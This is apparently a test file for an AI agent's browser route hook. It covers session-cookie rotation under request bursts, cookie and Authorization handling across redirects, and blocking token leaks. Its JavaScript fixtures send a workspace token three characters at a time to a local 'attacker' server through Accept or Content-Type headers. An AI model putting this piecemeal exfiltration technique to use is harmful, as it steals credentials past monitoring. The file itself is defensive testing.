"""The route hook and the cookies a server sets, session 16.

- A burst of overlapping requests the route hook fetches: a request the hook held kept the cookie header it was
  created with, so it reached the server after later ones with a session cookie the server had already replaced (a
  server that treats an old token's reuse as theft ends the session). The hook now sends the latest value the server
  set (from the context's cookie store) in place of an older one it set; a cookie a script chose goes as sent.
- The run's data spread a few characters at a time over script-set ``Accept`` or ``Content-Type`` values (headers
  a script may send to any host without a preflight) to another host: each value joins the site's stream, and the
  pieces add up and are refused; ordinary ``application/json`` fetches stay quiet.

Each page runs in plain Chromium (a context of the same pool without gofer's routing) and in a gofer run whose rule is
in force. Real Chromium, pages on 127.0.0.1; only the model is scripted."""

from __future__ import annotations

import asyncio
import itertools
import threading
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from agent_helpers import call, drive
from recording_server import RecordingServer, recording_servers
from test_cookie16_rotation import _plain
from test_flow_page_channels import TOKEN, _page, _refused

from gofer.computer.browser import BrowserPool
from gofer.events import ConfirmationRequested, Event, RunStatus

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

Seen = list[tuple[str, int]]
"""The ``sid`` each request to ``/api`` carried, and the status it was answered with."""


def _strict(server: RecordingServer) -> Seen:
    """Make ``server`` answer ``/api`` with a new ``sid`` cookie each time and with 401 to a ``sid`` it has replaced
    (the reuse of an old token taken as theft); returns the list where it records what each request carried."""
    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass
    count = itertools.count(1)
    lock = threading.Lock()
    replaced: set[str] = set()
    current = [""]
    seen: Seen = []

    class Strict(base):  # type: ignore[valid-type,misc]
        def _serve(self) -> None:
            if urlsplit(self.path).path != "/api":
                super()._serve()
                return
            self.rfile.read(int(self.headers.get("content-length") or 0))
            cookies = dict(c.strip().split("=", 1) for c in (self.headers.get("cookie") or "").split(";") if "=" in c)
            sid = cookies.get("sid", "")
            with lock:
                stolen = sid in replaced
                if not stolen:
                    if current[0]:
                        replaced.add(current[0])
                    current[0] = f"s{next(count)}"
                new = current[0]
                seen.append((sid, 401 if stolen else 200))
            self.send_response(401 if stolen else 200)
            if not stolen:
                self.send_header("set-cookie", f"sid={new}; Path=/")
            self.send_header("content-length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        do_GET = do_POST = _serve

    server.server.RequestHandlerClass = Strict
    return seen


async def _run(tmp_path: Path, site: RecordingServer, text: str) -> tuple[RunStatus, list[Event]]:
    """A run that opens the site's page, reads a workspace token (the run's rule is then in force), types ``text``
    into the page and looks at it three times (time for the page's requests)."""
    ws = tmp_path / "ws"
    (ws / "data").mkdir(parents=True, exist_ok=True)
    (ws / "data" / "token.txt").write_text(f"deploy-token: {TOKEN}\n")
    calls = [call("browser_open", url=f"{site.url}/page"), call("read_file", path="data/token.txt"),
             call("browser_type", ref=1, text=text), *[call("browser_snapshot")] * 3]
    return await drive(tmp_path, f"Summarise the page at {site.url}/page", calls, ws,
                       timeout=120, answer="Tomatoes like sun.")


_BURST = ("(v.length === 3 && (async () => {{ "
          "for (let i = 0; i < 2; i++) await fetch('/api?w=' + i, {{method: 'POST', body: 'w'}}).catch(() => {{}}); "
          "for (let i = 0; i < {n}; i++) {{ "
          "fetch('/api?n=' + i, {{method: 'POST', body: 'n=' + i}}).catch(() => {{}}); "
          "if ({gap}) await new Promise(r => setTimeout(r, {gap})); }} }})())")
"""Two requests one after the other (the server has replaced its cookie once), then a burst of ``n`` requests."""


async def _strict_seen(pool: BrowserPool, tmp_path: Path, send: str, count: int, plain: bool) -> Seen:
    """What a strict server (a fresh one) saw from a page running ``send`` once three characters are typed, without
    gofer (``plain``) or in a gofer run."""
    site = RecordingServer()
    got = _strict(site)
    with recording_servers(site):
        site.pages["/page"] = _page(send)
        if plain:
            await _plain(pool, f"{site.url}/page", "tom", got, count)  # type: ignore[arg-type]
        else:
            status, events = await _run(tmp_path, site, "tom")
            for _ in range(100):
                if len(got) >= count:
                    break
                await asyncio.sleep(0.1)
            assert status == RunStatus.FINISHED
            assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]
    return got


async def test_a_burst_of_requests_carries_the_servers_latest_cookie(pool: BrowserPool, tmp_path: Path) -> None:
    # requests a keystroke apart, as in test_cookie16_rotation.py: plain Chromium gets through (unless the machine
    # is so loaded that two of its own requests overlap), and so does gofer
    send = _BURST.format(n=12, gap=50)
    plain = await _strict_seen(pool, tmp_path, send, 14, plain=True)
    if [status for _sid, status in plain] != [200] * 14:
        pytest.skip(f"plain Chromium itself sent a replaced cookie (a loaded machine): {plain}")
    gofer = await _strict_seen(pool, tmp_path, send, 14, plain=False)
    assert [status for _sid, status in gofer] == [200] * 14, gofer


async def test_requests_sent_at_once_carrying_a_replaced_cookie_go_one_at_a_time(pool: BrowserPool,
                                                                                 tmp_path: Path) -> None:
    # twelve requests sent at once to a server that has replaced its cookie: plain Chromium sends them together
    # with the same value (all but the first answered 401); the route hook, which holds each request a while,
    # sends those that carry a cookie the server replaces one at a time, each with the latest value
    gofer = await _strict_seen(pool, tmp_path, _BURST.format(n=12, gap=0), 14, plain=False)
    assert [status for _sid, status in gofer] == [200] * 14, gofer
    assert len({sid for sid, _status in gofer}) == 14, gofer


def _recording_headers(server: RecordingServer) -> list[str]:
    """Make ``server`` record the ``Accept`` and ``Content-Type`` of each request to ``/in``; returns that list."""
    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass
    got: list[str] = []

    class Recording(base):  # type: ignore[valid-type,misc]
        def _serve(self) -> None:
            if urlsplit(self.path).path == "/in":
                got.append(f"{self.headers.get('accept', '')}\n{self.headers.get('content-type', '')}")
            super()._serve()

        do_GET = do_POST = do_OPTIONS = _serve

    server.server.RequestHandlerClass = Recording
    return got


_IN_PIECES = {
    "Accept": ("(v.length % 3 === 0 && fetch('{a}/in?n=' + v.length, {{mode: 'no-cors', "
               "headers: {{'Accept': v.slice(-3)}}}}).catch(() => {{}}))"),
    "Content-Type": ("(v.length % 3 === 0 && fetch('{a}/in', {{method: 'POST', mode: 'no-cors', body: 'x', "
                     "headers: {{'Content-Type': 'text/plain;d=' + v.slice(-3)}}}}).catch(() => {{}}))"),
}


@pytest.mark.parametrize("header", list(_IN_PIECES))
async def test_a_script_cannot_spread_the_token_over_accept_or_content_type(tmp_path: Path, header: str) -> None:
    attacker, site = RecordingServer(), RecordingServer()
    got = _recording_headers(attacker)
    with recording_servers(attacker, site):
        site.pages["/page"] = _page(_IN_PIECES[header].format(a=attacker.url))
        status, events = await _run(tmp_path, site, TOKEN)
        await asyncio.sleep(1)
    assert status == RunStatus.FINISHED
    sent = "".join(g.split("\n")[0 if header == "Accept" else 1].removeprefix("text/plain;d=") for g in got)
    assert len(got) >= 3 and TOKEN not in sent and TOKEN[:14] not in sent, (got, _refused(events), attacker.requests)
    refused = _refused(events)
    assert refused and "a few characters" in refused[0].reason, refused


async def test_ordinary_accept_and_content_type_stay_quiet(tmp_path: Path) -> None:
    attacker, site = RecordingServer(), RecordingServer()
    got = _recording_headers(attacker)
    with recording_servers(attacker, site):
        site.pages["/page"] = _page(
            f"fetch('{attacker.url}/in?q=' + encodeURIComponent(v), {{headers: {{'Accept': 'application/json'}}}})"
            f".catch(() => {{}}); fetch('{attacker.url}/in', {{method: 'POST', body: JSON.stringify({{n: v.length}}), "
            "headers: {'Content-Type': 'application/json', 'Accept': 'application/json'}}).catch(() => {})"
            )
        text = "tomatoes and basil grow well together"
        status, events = await _run(tmp_path, site, text)
        await asyncio.sleep(1)
    assert status == RunStatus.FINISHED
    assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]
    assert len(got) >= len(text), got


_SESSION = "sid-0f3a9c7e5b1d"


def _session_site(server: RecordingServer) -> None:
    """Make ``server`` set an HttpOnly session cookie with ``/page``."""
    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass

    class Session(base):  # type: ignore[valid-type,misc]
        def send_response(self, code: int, message: str | None = None) -> None:
            super().send_response(code, message)
            if urlsplit(self.path).path == "/page":
                self.send_header("set-cookie", f"session={_SESSION}; Path=/; HttpOnly")

    server.server.RequestHandlerClass = Session


def _landing_headers(server: RecordingServer, header: str) -> list[str]:
    """Make ``server`` record the ``header`` of each request to ``/landing``; returns that list."""
    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass
    got: list[str] = []

    class Recording(base):  # type: ignore[valid-type,misc]
        def _serve(self) -> None:
            if urlsplit(self.path).path == "/landing":
                got.append(self.headers.get(header) or "")
            super()._serve()

        do_GET = do_POST = _serve

    server.server.RequestHandlerClass = Recording
    return got


_REDIRECTED = ("(v.length === 3 && fetch('/redirect?to=' + encodeURIComponent('{o}/landing?topic=roses'), "
               "{{method: '{m}', mode: 'no-cors', credentials: 'include'{b}}}).catch(() => {{}}))")


@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize("same", [False, True], ids=["another host", "the same host"])
async def test_a_redirect_hop_carries_the_cookies_of_its_own_host(tmp_path: Path, method: str, same: bool) -> None:
    # the site's fetch (a query: fetched by the route hook hop by hop) redirects to another host ("localhost"), as
    # a login's return_to or a tracker's bounce does: the hop must carry that host's cookies, not the site's
    # HttpOnly session (Chromium sends each hop the cookies of the hop's own URL); a hop to the site keeps them
    site, other = RecordingServer(), RecordingServer()
    _session_site(site)
    got = _landing_headers(site if same else other, "cookie")
    with recording_servers(site, other):
        target = site.url if same else other.url.replace("127.0.0.1", "localhost")
        site.pages["/page"] = _page(_REDIRECTED.format(o=target, m=method,
                                                       b=", body: 'n=1'" if method == "POST" else ""))
        status, events = await _run(tmp_path, site, "tom")
        for _ in range(30):
            if got:
                break
            await asyncio.sleep(0.1)
    assert status == RunStatus.FINISHED
    assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]
    assert [r for r in site.requests if r.startswith(f"{method} /redirect")], site.requests
    assert len(got) == 1 and (_SESSION in got[0]) == same, got


_BEARER = "Bearer api-7c1e94d2a0b3"
_AUTHORIZED = ("(v.length === 3 && fetch('/redirect?to=' + encodeURIComponent('{o}/landing?topic=roses'), "
               "{{headers: {{'Authorization': '" + _BEARER + "'}}}}).catch(() => {{}}))")


@pytest.mark.parametrize("same", [False, True], ids=["another host", "the same host"])
async def test_a_redirect_hop_to_another_origin_drops_the_scripts_authorization(tmp_path: Path, same: bool) -> None:
    # a script's fetch with its API's Authorization header bounces to another origin: the hop the route hook fetches
    # must not carry the header there (Chromium drops it at a cross-origin redirect); a hop within the origin keeps it
    site, other = RecordingServer(), RecordingServer()
    got = _landing_headers(site if same else other, "authorization")
    with recording_servers(site, other):
        target = site.url if same else other.url.replace("127.0.0.1", "localhost")
        site.pages["/page"] = _page(_AUTHORIZED.format(o=target))
        status, events = await _run(tmp_path, site, "tom")
        for _ in range(30):
            if got:
                break
            await asyncio.sleep(0.1)
    assert status == RunStatus.FINISHED
    assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]
    assert [r for r in site.requests if r.startswith("GET /redirect")], site.requests
    assert len(got) == 1 and (got[0] == _BEARER) == same, got
